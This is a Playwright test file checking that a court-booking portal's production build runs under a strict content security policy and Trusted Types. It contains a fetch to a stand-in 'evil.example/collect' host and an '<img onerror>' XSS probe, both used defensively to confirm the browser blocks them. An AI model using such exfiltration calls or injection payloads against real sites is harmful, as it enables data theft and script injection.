/**
 * The production build under its content security policy (scripts/csp.ts): these tests
 * run in the `csp` project only, against `vite build && vite preview` with the simulator mounted.
 * Like every e2e test, each fails on any `securitypolicyviolation` (e2e/fixtures.ts), so walking
 * the portal's screens here is the proof that the build needs no inline script or style, no eval,
 * no address beyond its two back ends, and (Trusted Types) no string written as HTML or as a
 * script's address except through the portal's own policies. Two tests provoke violations on
 * purpose, to show that the policy refuses them and that the listener hears them.
 *
 * The simulator's clock stands at Saturday 2026-11-21 09:30 (Vilnius).
 */
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readdir, readFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import type { Page } from '@playwright/test';
import { COMPILE_HINT } from '../scripts/compile-hints';
import { contentSecurityPolicy } from '../scripts/csp';
import { CSP_BASE_URL, CSP_DIST, CSP_PORT } from '../playwright.config';
import { accounts, expect, holdRequests, signIn, test as base, userBar } from './fixtures';

const root = resolve(import.meta.dirname, '..');

/**
 * `vite preview` (what `npm run preview` runs) serving the suite's build (CSP_DIST), for this
 * file's worker: started here rather than as a global webServer, so that only a run of the csp
 * project pays for it. The simulator answers on the same origin, as on the dev server.
 */
const test = base.extend<object, { previewServer: string }>({
  previewServer: [
    // eslint-disable-next-line no-empty-pattern -- Playwright reads a fixture's dependencies from its first parameter
    async ({}, use) => {
      const vite = resolve(root, 'node_modules/vite/bin/vite.js');
      const args = [vite, 'preview', '--outDir', CSP_DIST, '--port', String(CSP_PORT)];
      const server = spawn(process.execPath, [...args, '--strictPort'], { cwd: root });
      let output = '';
      server.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
      server.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
      const exited = new Promise<never>((_, reject) =>
        server.once('exit', (code) =>
          reject(new Error(`vite preview exited (${code}) before it answered:\n${output}`)),
        ),
      );
      const ready = (async () => {
        while (server.exitCode === null) {
          const answer = await fetch(`${CSP_BASE_URL}/wp-json/data/v1/get_savitarna_date/`).then(
            (r) => r.ok,
            () => false,
          );
          if (answer) return;
          await new Promise((r) => setTimeout(r, 100));
        }
      })();
      try {
        await Promise.race([ready, exited]);
        await use(CSP_BASE_URL);
      } finally {
        server.removeAllListeners('exit');
        server.kill();
      }
    },
    { scope: 'worker', auto: true, timeout: 60_000 },
  ],
});

const NOW = '2026-11-21T09:30';
const COURT = 'Teniso aikštelė 1';

test.beforeEach(async ({ sim }) => {
  await sim.scenario({ now: NOW });
});

const title = (page: Page, name: string) =>
  page.getByRole('heading', { level: 1, name, exact: true });
const dialog = (page: Page, name: string) => page.getByRole('dialog', { name, exact: true });
const cell = (page: Page, time: string, status = 'Laisva') =>
  page.getByRole('gridcell', { name: `${COURT}, ${time}: ${status}`, exact: true });

/** Opens a free cell's dialog and picks its first length (half an hour). */
async function pick(page: Page, time: string) {
  await cell(page, time).click();
  await dialog(page, COURT)
    .getByRole('button', { name: new RegExp(`^Pasirinkti ${time}–`) })
    .first()
    .click();
}

test.describe('the headers', () => {
  test('the page, a deep link and the scripts come with the policy, nosniff and the referrer policy', async ({
    page,
  }) => {
    const home = await page.goto('/');
    expect(home).not.toBeNull();
    await expect(title(page, 'Kortų užimtumas')).toBeVisible();
    const policy = home?.headers()['content-security-policy'] ?? '';
    // what the issue asks for, spelled out here rather than taken from the code under test
    const directives = policy.split(';').map((d) => d.trim());
    expect(directives).toEqual(
      expect.arrayContaining([
        "default-src 'none'",
        "script-src 'self'",
        "require-trusted-types-for 'script'",
        'trusted-types portal-terms dompurify portal-boot',
        "style-src 'self'",
        "connect-src 'self'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
        "object-src 'none'",
      ]),
    );
    expect(policy).not.toMatch(/unsafe-|\*|https?:/);
    // and exactly the one the README tells a venue to send for a same-origin content server
    expect(policy).toBe(contentSecurityPolicy({}));

    const deepLink = await page.request.get('/uzsakymai');
    const script = await page.request.get(
      (await page.locator('script[src]').first().getAttribute('src')) ?? '',
    );
    for (const response of [home, deepLink, script]) {
      const headers = response?.headers() ?? {};
      expect(headers['content-security-policy']).toBe(policy);
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    }
  });

  test('no other origin can show the portal in a frame', async ({ page }) => {
    // a page of another origin, with no policy of its own, frames the portal's login page and,
    // for comparison, one of the simulator's answers (which go out without the portal's headers).
    // Served from this machine: Chromium keeps a public page from framing a local server anyway.
    const dateAnswer = `${CSP_BASE_URL}/wp-json/data/v1/get_savitarna_date/`;
    const framer = createServer((_req, res) => {
      res.setHeader('Content-Type', 'text/html');
      res.end(
        `<iframe title="portal" src="${CSP_BASE_URL}/prisijungti"></iframe>` +
          `<iframe title="answer" src="${dateAnswer}"></iframe>`,
      );
    });
    await new Promise<void>((resolve) => framer.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = framer.address() as AddressInfo;
      await page.goto(`http://127.0.0.1:${port}/`);
    } finally {
      framer.close();
    }
    await expect(page.frameLocator('iframe[title="answer"]').locator('body')).toContainText(
      '"data"',
    );
    // the portal's page is refused: the browser shows its own error page in the frame instead
    await expect.poll(() => page.frames().map((f) => f.url())).toContain(dateAnswer);
    await expect
      .poll(() => page.frames().some((f) => f.url().startsWith('chrome-error:')))
      .toBe(true);
    await expect(
      page.frameLocator('iframe[title="portal"]').getByRole('heading', { name: 'Prisijungimas' }),
    ).toHaveCount(0);
  });
});

test('the policy refuses inline script and style, eval and other addresses, and each is reported', async ({
  page,
  cspViolations,
}) => {
  await page.goto('/');
  await expect(title(page, 'Kortų užimtumas')).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const w = window as unknown as { __ran?: number };
    // Trusted Types refuses a script's text given as a string (it throws) before script-src is asked
    const script = document.createElement('script');
    let scriptText = true;
    try {
      script.textContent = 'window.__ran = 1';
    } catch {
      scriptText = false;
    }
    document.body.append(script);

    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid red }';
    document.head.append(style);

    const marked = document.createElement('p');
    marked.setAttribute('style', 'color: rgb(1, 2, 3)');
    document.body.append(marked);

    // a task of the page's own: the evaluation Playwright starts is let through by the browser
    await new Promise((resolve) => setTimeout(resolve));
    let evaluated = true;
    try {
      eval('1');
    } catch {
      evaluated = false;
    }
    const fetched = await fetch('https://evil.example/collect').then(
      () => true,
      () => false,
    );
    // a worker only from the portal's own scripts: not one made of a string
    const workerRan = await new Promise<boolean>((resolve) => {
      const source = new Blob(['postMessage(1)'], { type: 'text/javascript' });
      try {
        const worker = new Worker(URL.createObjectURL(source));
        worker.onmessage = () => resolve(true);
        worker.onerror = () => resolve(false);
      } catch {
        // Trusted Types: a worker's address given as a string is refused as the worker is made
        resolve(false);
      }
    });
    return {
      scriptText,
      ran: w.__ran ?? 0,
      outlined: getComputedStyle(document.body).outlineWidth === '7px',
      coloured: getComputedStyle(marked).color === 'rgb(1, 2, 3)',
      evaluated,
      fetched,
      workerRan,
    };
  });
  expect(outcome).toEqual({
    scriptText: false,
    ran: 0,
    outlined: false,
    coloured: false,
    evaluated: false,
    fetched: false,
    workerRan: false,
  });
  // the script's text, eval's string and the worker's address are strings where Trusted Types
  // wants a policy's value: refused there (the sink is the sample's first part), so script-src is
  // never asked
  await expect
    .poll(() =>
      cspViolations
        .map((v) =>
          v.directive === 'require-trusted-types-for'
            ? `${v.directive}: ${v.sample.split('|')[0]}`
            : v.directive,
        )
        .sort(),
    )
    .toEqual([
      'connect-src',
      'require-trusted-types-for: HTMLScriptElement textContent',
      'require-trusted-types-for: Worker constructor',
      'require-trusted-types-for: eval',
      'style-src-attr',
      'style-src-elem',
    ]);
  // provoked on purpose: heard, so not a failure of this test
  cspViolations.splice(0);
});

test('Trusted Types: HTML written as a string is refused and reported, and no other policy can be made', async ({
  page,
  cspViolations,
}) => {
  await page.goto('/');
  // the board, not the shell's title: the boot script has added the entry, its policy made
  await expect(page.getByTestId('board')).toBeVisible();
  const outcome = await page.evaluate(() => {
    // under 40 characters, so the report's sample holds it whole
    const probe = `<img src=x onerror="window.__pwned=1">`;
    const refused = (write: () => unknown) => {
      try {
        write();
        return false;
      } catch (error) {
        return error instanceof TypeError;
      }
    };
    const factory = (
      window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      }
    ).trustedTypes;
    const box = document.createElement('div');
    document.body.append(box);
    return {
      innerHTML: refused(() => (box.innerHTML = probe)),
      insertAdjacentHTML: refused(() => box.insertAdjacentHTML('beforeend', probe)),
      written: box.childElementCount,
      // a pass-through policy of a script's own, or under a name the portal has already made
      newPolicy: refused(() => factory.createPolicy('probe', { createHTML: (s: string) => s })),
      portalName: refused(() =>
        factory.createPolicy('portal-boot', { createScriptURL: (s: string) => s }),
      ),
    };
  });
  expect(outcome).toEqual({
    innerHTML: true,
    insertAdjacentHTML: true,
    written: 0,
    newPolicy: true,
    portalName: true,
  });
  await expect
    .poll(() => cspViolations.map((v) => `${v.directive}: ${v.sample}`).sort())
    .toEqual([
      `require-trusted-types-for: Element innerHTML|<img src=x onerror="window.__pwned=1">`,
      `require-trusted-types-for: Element insertAdjacentHTML|<img src=x onerror="window.__pwned=1">`,
      'trusted-types: portal-boot',
      'trusted-types: probe',
    ]);
  // provoked on purpose: heard, so not a failure of this test
  cspViolations.splice(0);
});

test('a violation the test does not take back fails it (e2e/fixtures.ts)', async ({
  page,
  cspViolations,
}) => {
  // expected to fail, and only at the fixture's check after the body: should the fixture stop
  // failing tests on a violation, this one passes, which Playwright counts as a failure
  test.fail();
  await page.goto('/');
  await expect(title(page, 'Kortų užimtumas')).toBeVisible();
  await page.evaluate(() => {
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid red }';
    document.head.append(style);
  });
  await expect.poll(() => cspViolations.map((v) => v.directive)).toEqual(['style-src-elem']);
});

test('a visitor: the board, venues, a slot, the login dialog and pages, contact, English, not found', async ({
  page,
}) => {
  await page.goto('/');
  await expect(title(page, 'Kortų užimtumas')).toBeVisible();
  const venues = page.getByRole('tablist', { name: 'Sporto vietos' });
  await venues.getByRole('tab', { name: 'Teniso arena' }).click();
  await expect(page).toHaveURL('/rezervacija/2');
  await expect(page.getByRole('grid', { name: /^Teniso arena, / })).toBeVisible();
  await venues.getByRole('tab', { name: 'Sporto centras Žalgiris' }).click();
  await expect(cell(page, '10:00')).toBeVisible();

  // a slot's dialog, then the login dialog a visitor meets after picking a length
  await pick(page, '10:00');
  const login = dialog(page, 'Prisijungimas');
  await expect(login).toBeVisible();
  await login.getByRole('button', { name: 'Prisijungti' }).click();
  await expect(login.getByText('Šis laukas privalomas').first()).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(login).toHaveCount(0);

  await userBar(page).getByRole('button', { name: 'Registruotis' }).click();
  await expect(dialog(page, 'Registracija')).toBeVisible();
  await page.keyboard.press('Escape');

  await page.getByRole('banner').getByRole('button', { name: 'Susisiekite', exact: true }).click();
  const contact = dialog(page, 'Susisiekite su mumis');
  await expect(contact).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(contact).toHaveCount(0);

  await page.goto('/prisijungti');
  await expect(title(page, 'Prisijungimas')).toBeVisible();
  await page.goto('/priminti-slaptazodi');
  await expect(title(page, 'Slaptažodžio priminimas')).toBeVisible();
  await page.goto('/nera-tokio-puslapio');
  await expect(title(page, 'Puslapis nerastas')).toBeVisible();
  await page.getByRole('link', { name: 'Į pradžią' }).click();

  // the English catalogue and react-aria's English strings load on demand
  await page.getByRole('group', { name: 'Kalba' }).getByRole('button', { name: 'English' }).click();
  await expect(title(page, 'Court availability')).toBeVisible();
  await expect(page.locator('html')).toHaveAttribute('lang', 'en');
  await page.reload();
  await expect(title(page, 'Court availability')).toBeVisible();
});

test('a customer: add, the cart, pay by bank, the result page, orders, invoices, balance, settings, logout', async ({
  page,
}) => {
  await signIn(page, accounts.demo.email, accounts.demo.password);
  await page.goto('/');
  await pick(page, '10:00');
  await dialog(page, 'Laikas įdėtas į krepšelį')
    .getByRole('button', { name: 'Eiti į krepšelį' })
    .click();
  const cart = dialog(page, 'Krepšelis');
  await expect(cart.getByRole('timer')).toBeVisible();
  await cart.getByRole('button', { name: 'Rezervuoti' }).click();
  const pay = dialog(page, 'Apmokėjimas');
  await pay.getByRole('button', { name: 'Apmokėti 7,00 €' }).click();

  // the simulator's bank (another site in real life, so not under the portal's policy)
  await expect(page).toHaveURL(/\/__sim\/bank\?/);
  await page.getByRole('button', { name: 'Patvirtinti' }).click();
  await expect(page).toHaveURL('/mokejimas/sekminga-rezervacija');
  await expect(title(page, 'Apmokėjimas įvyko')).toBeVisible();

  await page.getByRole('link', { name: 'Į užsakymus' }).click();
  await expect(title(page, 'Mano užsakymai')).toBeVisible();
  await expect(page.getByRole('main')).toContainText(`${COURT} nuoma`);

  await page.goto('/saskaitos');
  await expect(title(page, 'Mano sąskaitos')).toBeVisible();
  await expect(page.getByTestId('range-list')).toBeVisible();

  await page.goto('/balansas');
  await expect(title(page, 'Balansas ir papildymas')).toBeVisible();
  await page.getByRole('button', { name: 'Papildyti', exact: true }).click();
  await expect(dialog(page, 'Papildyti balansą 10,00 €?')).toBeVisible();
  await page.keyboard.press('Escape');

  await page.goto('/nustatymai');
  await expect(title(page, 'Nustatymai')).toBeVisible();
  await page.getByRole('tab', { name: 'Sutikimai' }).click();
  await expect(page).toHaveURL('/nustatymai/sutikimai');
  await expect(page.getByRole('switch', { name: /Sutikimas su taisyklėmis/ })).toBeChecked();

  await userBar(page).getByRole('button', { name: 'Atsijungti' }).click();
  await expect(userBar(page).getByRole('link', { name: 'Prisijungti' })).toBeVisible();
});

test('the terms: the consent modal and the terms viewer (terms carrying a script and an image)', async ({
  page,
}) => {
  // the simulator's terms hide a <script> and an <img onerror>: the sanitiser drops both
  await signIn(page, accounts.fresh.email, accounts.fresh.password);
  await page.goto('/');
  const consent = dialog(page, 'Taisyklės ir sutikimai');
  await expect(consent).toBeVisible();
  await consent.getByRole('button', { name: 'Skaityti taisykles' }).click();
  const viewer = dialog(page, 'Taisyklės');
  await expect(viewer.getByText(/Rezervuodami aikštelę/)).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(viewer).toHaveCount(0);
  await consent.getByRole('button', { name: 'Patvirtinti' }).click();
  await expect(consent).toHaveCount(0);
});

test('the build has no inspector: ?inspect opens nothing, no built script mentions it', async ({
  page,
  context,
}) => {
  const opened: string[] = [];
  context.on('page', (p) => opened.push(p.url()));
  await page.goto('/?inspect');
  await expect(title(page, 'Kortų užimtumas')).toBeVisible();
  expect(opened).toEqual([]);

  const assets = join(root, CSP_DIST, 'assets');
  const scripts = (await readdir(assets)).filter((name) => name.endsWith('.js'));
  expect(scripts.length).toBeGreaterThan(0);
  for (const name of scripts) {
    const code = await readFile(join(assets, name), 'utf8');
    expect(code, name).not.toMatch(/stately\.ai|@statelyai|createBrowserInspector/);
  }
});

test('after the first paint, the boot script asks for the whole first load at once, waiting for none of it', async ({
  page,
}) => {
  // scripts/prerender.ts: the entry and what it imports at once, a few links a task
  const asked: string[] = [];
  let answer = () => {};
  const held = new Promise<void>((resolve) => (answer = resolve));
  await page.route('**/assets/*.js', async (route) => {
    const path = new URL(route.request().url()).pathname;
    // the boot script itself is read before the page is drawn
    if (!path.startsWith('/assets/boot-')) {
      asked.push(path);
      await held;
    }
    await route.continue();
  });
  await page.goto('/');
  await expect(title(page, 'Kortų užimtumas')).toBeVisible();
  const boot = page.locator('script[data-entry]');
  const entry = (await boot.getAttribute('data-entry')) ?? '';
  const preload = ((await boot.getAttribute('data-preload')) ?? '').split(' ');
  expect(preload.length).toBeGreaterThan(5);
  // every one asked for while none has been answered
  await expect
    .poll(() => [...new Set(asked)].sort())
    .toEqual([...new Set([entry, ...preload])].sort());
  answer();
  await expect(page.getByTestId('board')).toBeVisible();
});

/** Records what moves in the page's loads from now on (layout shifts), by tag and words. */
async function recordShifts(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const moved: string[] = [];
    Object.assign(window, { __moved: moved });
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries() as unknown as { sources: { node?: Node }[] }[]) {
        for (const { node } of entry.sources) {
          const element = node instanceof Element ? node : node?.parentElement;
          moved.push(`${element?.tagName} "${(element?.textContent ?? '').slice(0, 40)}"`);
        }
      }
    }).observe({ type: 'layout-shift', buffered: true });
  });
}

/** What has moved so far, after the next frame (where a shift would be reported). */
async function shiftsSoFar(page: Page): Promise<string[]> {
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
  return page.evaluate(() => (window as unknown as { __moved: string[] }).__moved);
}

// The header's controls sit at the end of a box that keeps its edge as start-up's end brings the
// balance, the map and the phone (src/views/Layout/Header.css.ts); the cart's place is kept
// (src/views/Cart/CartPanel.css.ts).
for (const width of [320, 375, 1280]) {
  test(`at ${width} px, a visitor's load moves nothing as start-up ends`, async ({ page }) => {
    await page.setViewportSize({ width, height: 740 });
    await recordShifts(page);
    await page.goto('/');
    await expect(page.getByTestId('board')).toBeVisible();
    await expect(page.getByTestId('phone-link')).toBeVisible();
    expect(await shiftsSoFar(page)).toEqual([]);
  });

  test(`at ${width} px, a signed-in load moves nothing: not start-up's end, the balance, nor the cart coming after the board`, async ({
    page,
  }) => {
    // The cart's code comes after load, once the whole catalog is in: held here until the board is
    // on screen, as on a slow connection.
    await page.setViewportSize({ width, height: 740 });
    await signIn(page, accounts.demo.email, accounts.demo.password);
    const release = await holdRequests(page, '**/assets/UserCart-*.js');
    await recordShifts(page);
    await page.goto('/');
    await expect(page.getByTestId('board')).toBeVisible();
    await expect(page.getByTestId('header-balance-amount')).toHaveText('50,00 €');
    release();
    await expect(page.getByRole('heading', { level: 2, name: 'Krepšelis' })).toBeVisible();
    await expect(page.getByText('Krepšelis tuščias.', { exact: false })).toBeVisible();
    expect(await shiftsSoFar(page)).toEqual([]);
  });
}

test("the shell before the code: a stored session keeps a signed-in board's places, claiming nothing, so the board comes without moving", async ({
  page,
}) => {
  // scripts/prerender.ts marks <html data-session> when a token is stored; the start-up skeleton
  // (src/views/Startup/StartupScreens.tsx) then keeps the places of what only a signed-in board
  // has: the cart, the legend's last two looks (kept empty: the token may have expired). On a
  // phone the board comes first and the cart after it.
  await page.setViewportSize({ width: 375, height: 740 });
  const past = page.getByText('Praėjo', { exact: true });
  const bought = page.getByText('Nupirkta', { exact: true });
  const legend = page.locator('ul').filter({ has: past });
  const look = async () => {
    const box = await legend.boundingBox();
    return {
      top: box?.y,
      bottom: (box?.y ?? 0) + (box?.height ?? 0),
      bought: await bought.isVisible(),
    };
  };
  const shellThenBoard = async () => {
    // the prerendered shell, drawn before the entry runs
    const release = await holdRequests(page, '**/assets/index-*.js');
    await page.goto('/');
    await expect(page.getByTestId('startup-skeleton')).toBeVisible();
    const inShell = await look();
    release();
    await expect(page.getByTestId('board')).toBeVisible();
    await page.unroute('**/assets/index-*.js');
    return { inShell, onBoard: await look() };
  };

  const visitor = await shellThenBoard();
  expect(visitor.inShell.bought).toBe(false);
  expect(visitor.onBoard).toEqual(visitor.inShell);

  await signIn(page, accounts.demo.email, accounts.demo.password);
  const user = await shellThenBoard();
  expect(user.inShell.bought).toBe(false);
  expect(user.onBoard.bought).toBe(true);
  expect({ ...user.onBoard, bought: false }).toEqual(user.inShell);
});

test("the code a first load runs starts with V8's compile hint, and the code for later does not", async () => {
  // scripts/compile-hints.ts: V8 compiles such a file whole as it streams in, off the main thread
  const dist = join(root, CSP_DIST);
  const html = await readFile(join(dist, 'index.html'), 'utf8');
  // what the boot script starts after the first paint (scripts/prerender.ts)
  const boot = /<script src="[^"]+" data-entry="([^"]+)" data-preload="([^"]*)"><\/script>/.exec(
    html,
  );
  expect(boot).not.toBeNull();
  const [entry = '', preload = ''] = boot?.slice(1) ?? [];
  const atOnce = [entry, ...preload.split(' ')];
  // the first-load part of the catalog is data, not code
  const catalog = atOnce.filter((file) => /\/lt-[^/]+\.js$/.test(file));
  expect(catalog).toHaveLength(1);
  const assets = (await readdir(join(dist, 'assets'))).map((name) => `/assets/${name}`);
  const named = (pattern: RegExp) => assets.filter((file) => pattern.test(file));
  // the step just after load: the calendar's month (src/app/afterLoad.ts)
  const calendarStep = named(/\/(deferredCalendar|CalendarMonth)-[^/]+\.js$/);
  expect(calendarStep).toHaveLength(2);
  // what waits for a click or another page: the dialogs' step and the pages
  const later = named(/\/(deferred|Dialog|OrdersPage|SettingsPage)-[^/]+\.js$/);
  expect(later).toHaveLength(4);

  const read = (file: string) => readFile(join(dist, file), 'utf8');
  const hinted = [...atOnce.filter((file) => !catalog.includes(file)), ...calendarStep];
  for (const file of hinted) {
    expect((await read(file)).startsWith(`${COMPILE_HINT}\n`), file).toBe(true);
  }
  // each map moved down a line with its chunk: a line of mappings for each line of code, and none
  // for the hint's (a chunk that only passes on another's exports has no map)
  const mapped = hinted.filter((file) => assets.includes(`${file}.map`));
  expect(mapped.length).toBeGreaterThan(hinted.length / 2);
  for (const file of mapped) {
    const lines = (JSON.parse(await read(`${file}.map`)) as { mappings: string }).mappings.split(
      ';',
    );
    expect(lines[0], `${file}.map`).toBe('');
    expect(lines, `${file}.map`).toHaveLength((await read(file)).split('\n').length);
  }
  for (const file of [...catalog, ...later]) {
    expect((await read(file)).startsWith(COMPILE_HINT), file).toBe(false);
  }
});

test('terms with a <style> and style attributes (as pasted from a word processor): shown, and nothing refused', async ({
  page,
  sim,
}) => {
  // the sanitiser drops these; the policy must never be asked about them either
  await sim.scenario({
    termsHtml:
      '<style>p { color: red }</style>' +
      '<p style="color: red">Rezervuodami aikštelę sutinkate su taisyklėmis.</p>',
  });
  await signIn(page, accounts.fresh.email, accounts.fresh.password);
  await page.goto('/');
  await dialog(page, 'Taisyklės ir sutikimai')
    .getByRole('button', { name: 'Skaityti taisykles' })
    .click();
  const viewer = dialog(page, 'Taisyklės');
  await expect(viewer.getByText(/Rezervuodami aikštelę/)).toBeVisible();
  await expect(viewer.locator('[style], style')).toHaveCount(0);
});
